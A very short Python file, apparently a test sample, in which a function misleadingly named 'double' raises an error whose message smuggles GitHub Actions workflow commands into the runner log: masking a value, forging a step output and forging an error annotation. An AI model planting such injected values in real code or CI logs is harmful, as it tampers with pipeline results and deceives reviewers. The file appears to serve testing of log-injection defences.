"""Give GitHub's runner a command of one's own."""

HARM = "workflow"


def double(x):
    raise ValueError("x\n::add-mask::1\n::set-output name=mark::10\r\n::error::forged")


total = double
